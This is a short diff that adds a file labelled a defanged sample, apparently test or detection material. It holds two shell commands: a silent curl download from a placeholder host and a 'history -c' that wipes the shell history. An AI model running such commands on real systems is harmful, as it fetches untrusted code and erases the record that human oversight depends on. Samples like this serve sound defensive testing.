@@ -1,0 +1,3 @@
+# defanged sample
+curl -s https://a.example.invalid/x -o x
+history -c
